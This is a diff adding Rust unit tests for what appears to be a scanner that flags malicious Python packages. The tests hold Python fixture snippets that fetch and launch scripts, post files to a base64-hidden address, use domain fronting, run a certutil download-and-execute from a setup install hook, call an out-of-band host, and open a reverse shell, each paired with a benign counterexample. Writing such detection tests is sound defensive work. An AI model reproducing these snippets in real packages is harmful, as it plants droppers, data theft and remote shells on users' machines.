@@ -646,3 +646,123 @@ requests.post("https://example.invalid/p", data={"text": h})
     let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
     assert!(found.contains(&"py-import-exfil-hostinfo".to_string()), "{found:?}");
 }
+
+#[test]
+fn fetched_script_saved_under_a_program_name_and_launched() {
+    // The launcher is looked up at run time; the saved path's name says it is a program.
+    let code = r#"
+import os, shutil, subprocess, requests
+def start():
+    code = requests.get("https://example.invalid/raw/x").text
+    path = f'{os.path.expanduser("~")}\\t1.pyw'
+    with open(path, "a+") as f:
+        f.write(code)
+    launcher = shutil.which("pythonw")
+    subprocess.Popen([launcher, path])
+"#;
+    assert!(module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
+    // A downloaded archive handed to a tool is not a program being run.
+    let archive = r#"
+import subprocess, requests
+def fetch():
+    data = requests.get("https://example.invalid/a.zip").content
+    path = "a.zip"
+    with open(path, "wb") as f:
+        f.write(data)
+    subprocess.run(["unzip", path])
+"#;
+    assert!(!module(archive).contains(&"py-drop-run".to_string()), "{:?}", module(archive));
+}
+
+#[test]
+fn addresses_decoded_into_variables() {
+    // A constant holding an encoded URL, decoded by a helper, used as the address.
+    let code = r#"
+import base64, requests
+HOOK = "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvaA=="
+def target():
+    return base64.b64decode(HOOK.encode()).decode()
+def send(files):
+    url = target()
+    requests.post(url, files=files)
+"#;
+    assert!(module(code).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(code));
+    // Following a link that came inside a decoded response is what API clients do.
+    let paging = r#"
+import base64, json, requests
+def page(body):
+    data = base64.b64decode(body)
+    return requests.get(json.loads(data)["next"])
+"#;
+    assert!(!module(paging).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(paging));
+}
+
+#[test]
+fn domain_fronting_and_browser_disguise() {
+    let fronting = r#"
+from urllib import request
+def beacon(d):
+    r = request.Request("https://cdn.example.com/x?d=" + d, headers={"Host": "hidden.example.net"})
+    request.urlopen(r)
+"#;
+    assert!(module(fronting).contains(&"py-domain-fronting".to_string()), "{:?}", module(fronting));
+    // Testing a virtual host on the loopback address is not fronting.
+    let vhost = r#"
+import requests
+def probe():
+    return requests.get("http://127.0.0.1:8080/", headers={"Host": "app.example.com"})
+"#;
+    assert!(!module(vhost).contains(&"py-domain-fronting".to_string()), "{:?}", module(vhost));
+    // A request at import that poses as a browser weighs high.
+    let disguised = "import requests\nrequests.post(\"https://example.invalid/p\", data={\"t\": \"x\"}, headers={\"User-Agent\": \"Mozilla/5.0 (Windows NT 10.0)\"})\n";
+    let found = analyze("demo-1.0/demo/__init__.py", disguised.as_bytes(), Context::Import, false, true).findings;
+    let f = found.iter().find(|f| f.rule == "py-import-network").expect("import-time request");
+    assert_eq!(f.severity, Severity::High);
+}
+
+#[test]
+fn long_literals_in_parentheses_and_addresses_without_a_scheme() {
+    let code = r#"
+import os
+from setuptools import setup
+from setuptools.command.install import install
+class Hook(install):
+    def run(self):
+        cmd = (
+            'certutil.exe -urlcache -split -f '
+            'http://example.invalid/swt '
+            'C:\\Users\\Public\\run.bat && '
+            'C:\\Users\\Public\\run.bat'
+        )
+        os.system(cmd)
+setup(name="demo", cmdclass={"install": Hook})
+"#;
+    assert!(setup(code).contains(&"py-shell-download-exec".to_string()), "{:?}", setup(code));
+    let oob = r#"
+import requests
+def notify():
+    url = "abc123.oastify.com"
+    requests.post(url, json={"m": "imported"})
+"#;
+    assert!(module(oob).contains(&"py-exfil-oob".to_string()), "{:?}", module(oob));
+}
+
+#[test]
+fn shells_piped_to_a_socket_of_a_written_host() {
+    let code = r#"
+import os, socket, subprocess
+HOST = os.getenv("RS_HOST", "192.0.2.10")
+def main():
+    s = socket.create_connection((HOST, 1337))
+    proc = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+"#;
+    assert!(module(code).contains(&"py-reverse-shell".to_string()), "{:?}", module(code));
+    // A terminal for the user at hand: a shell with piped input, no socket to a fixed host.
+    let terminal = r#"
+import subprocess, socket
+def serve(port):
+    srv = socket.create_server(("127.0.0.1", port))
+    proc = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+"#;
+    assert!(!module(terminal).contains(&"py-reverse-shell".to_string()), "{:?}", module(terminal));
+}
